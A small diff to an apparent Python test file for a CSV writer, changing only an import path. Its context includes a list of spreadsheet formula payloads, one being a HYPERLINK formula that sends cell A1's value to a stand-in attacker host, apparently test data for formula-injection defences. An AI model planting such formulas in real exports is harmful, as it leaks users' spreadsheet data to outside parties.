@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dataops.spreadsheets import write_csv
+from plugins.versions.spreadsheets import write_csv
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
